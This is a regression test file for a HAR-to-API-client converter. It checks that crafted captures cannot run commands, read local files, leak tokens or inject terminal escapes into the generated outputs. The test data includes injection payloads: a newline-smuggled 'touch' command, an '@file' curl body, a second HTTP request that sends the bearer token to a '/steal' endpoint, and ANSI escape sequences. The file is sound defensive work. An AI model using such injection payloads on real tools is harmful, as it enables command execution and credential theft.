import { spawn } from "node:child_process";
import { existsSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { type RecordingServer, startRecordingServer } from "./support/recording-server.js";
import { runCli } from "./support/run-cli.js";
import { runHttpyac } from "./support/run-httpyac.js";

// Captures that once made a generated output run a command, read a local file, or send the
// token elsewhere, and secrets that once reached an output.
const dir = mkdtempSync(join(tmpdir(), "har2mkio-regressions-"));
const API = "https://api.mk.io/api/v1/projects/p/media/assets/a";

function capture(
  name: string,
  requests: Record<string, unknown>[],
  response?: Record<string, unknown>,
) {
  const entries = requests.map((request) => ({
    request: { method: "PUT", url: API, headers: [], ...request },
    response: { status: 200, ...response },
  }));
  const path = join(dir, `${name}.har`);
  writeFileSync(path, JSON.stringify({ log: { entries } }));
  return path;
}

function json(value: unknown) {
  return { postData: { mimeType: "application/json", text: JSON.stringify(value) } };
}

function bash(script: string, env: Record<string, string>): Promise<number | null> {
  const path = join(mkdtempSync(join(dir, "sh-")), "requests.sh");
  writeFileSync(path, script);
  const child = spawn("bash", [path], { env: { PATH: process.env.PATH, ...env }, stdio: "ignore" });
  return new Promise((resolve) => child.on("close", resolve));
}

let server: RecordingServer;
let other: RecordingServer;
beforeAll(async () => {
  server = await startRecordingServer();
  other = await startRecordingServer();
});
afterAll(async () => {
  await server.close();
  await other.close();
});
beforeEach(() => {
  server.requests.length = 0;
  other.requests.length = 0;
});

describe("generated code stays data", () => {
  it("curl comment cannot end with a command", async () => {
    const marker = join(dir, "PWNED");
    const key = `x\ntouch ${marker}\n#refName`;
    const script = (await runCli([capture("comment", [json({ [key]: "v" })])])).stdout;
    await bash(script, { MKIO_TOKEN: "t", MKIO_BASE_URL: server.baseUrl });
    expect(existsSync(marker)).toBe(false);
    expect(server.requests).toHaveLength(1);
  });

  it("curl sends a body starting with @ as text", async () => {
    const local = join(dir, "local.txt");
    writeFileSync(local, "LOCAL-FILE");
    const body = { postData: { mimeType: "text/plain", text: `@${local}` } };
    const script = (await runCli([capture("at-body", [{ method: "POST", ...body }])])).stdout;
    await bash(script, { MKIO_TOKEN: "t", MKIO_BASE_URL: server.baseUrl });
    expect(server.requests[0]?.body.toString("utf8")).toBe(`@${local}`);
  });

  it("curl never assigns PROMPT_COMMAND", async () => {
    const calls = ["touch /nonexistent", "other"].map((value) =>
      json({ properties: { promptCommand: value } }),
    );
    const script = (await runCli([capture("prompt", calls)])).stdout;
    expect(script).not.toMatch(/^PROMPT_COMMAND=/m);
  });

  it(".http text body cannot add a request", async () => {
    const text = `hello\n\n###\nGET ${other.baseUrl}/steal\nAuthorization: Bearer {{mkioToken}}\n`;
    const path = capture("http-split", [
      { method: "POST", postData: { mimeType: "text/plain", text } },
    ]);
    const file = (await runCli([path, "-f", "http", "--base-url", server.baseUrl])).stdout;
    await runHttpyac(file, { MKIO_TOKEN: "REALTOKEN123" });
    expect(other.requests).toHaveLength(0);
  });
});

describe("secrets stay out", () => {
  it("a token and cookie echoed in a response", async () => {
    const headers = [
      { name: "Authorization", value: "Bearer TOKopaque0123456789" },
      { name: "Cookie", value: "sid=COOKIEsid0123456" },
    ];
    const echo = JSON.stringify({
      user: { t: "TOKopaque0123456789", s: "COOKIE\\u0073id0123456" },
    });
    const path = capture("echo", [{ headers, ...json({}) }], {
      content: { mimeType: "application/json", text: echo },
    });
    for (const format of ["openapi", "postman", "json"]) {
      const result = await runCli([path, "-f", format]);
      expect(result.stdout).not.toContain("TOKopaque0123456789");
      expect(result.stdout).not.toContain("COOKIEsid0123456");
    }
  });

  it("bearer values in ordinary headers and query values", async () => {
    const jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJxIn0.UVVFUllzaWc";
    const headers = [{ name: "X-Authorization", value: "Bearer XAUTHtok0123" }];
    const path = capture("shapes", [{ url: `${API}?hint=${jwt}`, headers, ...json({}) }]);
    const result = await runCli([path]);
    expect(result.stdout).not.toContain("XAUTHtok0123");
    expect(result.stdout).not.toContain(jwt);
  });

  it("secret-named numbers, objects and connection strings", async () => {
    const body = {
      properties: {
        password: 73918264,
        credential: { v: "CREDnested0123" },
        conn: "AccountName=a;AccountKey=ACCTkey0123==",
      },
    };
    const result = await runCli([capture("fields", [json(body)])]);
    expect(result.stdout).not.toContain("73918264");
    expect(result.stdout).not.toContain("CREDnested0123");
    expect(result.stdout).not.toContain("ACCTkey0123");
  });
});

describe("sanitize and summary", () => {
  it("sanitize redacts browser-specific entry fields", async () => {
    const entry = {
      comment: "token=ENTRYcomment0123",
      _initiator: { type: "script", url: "https://x.blob.core.windows.net/c?sv=1&sig=INITsig0123" },
      _webSocketMessages: [
        { type: "send", time: 1, opcode: 1, data: '{"accessToken":"WSsecret0123"}' },
      ],
      request: { method: "GET", url: "wss://api.mk.io/socket", headers: [] },
      response: { status: 101, headers: [] },
    };
    const input = join(dir, "extra-fields.har");
    writeFileSync(input, JSON.stringify({ log: { entries: [entry] } }));
    const result = await runCli(["sanitize", input, "-o", "-"]);
    expect(result.code).toBe(0);
    for (const secret of ["ENTRYcomment0123", "INITsig0123", "WSsecret0123"]) {
      expect(result.stdout).not.toContain(secret);
    }
  });

  it("summary escapes terminal control sequences", async () => {
    const url = `${API}/\u001b]0;OWNED\u0007\u001b[2J/go`;
    const result = await runCli([capture("escape", [{ method: "POST", url }]), "-f", "summary"]);
    expect(result.stdout).not.toContain("\u001b");
    expect(result.stderr).not.toContain("\u001b");
  });
});
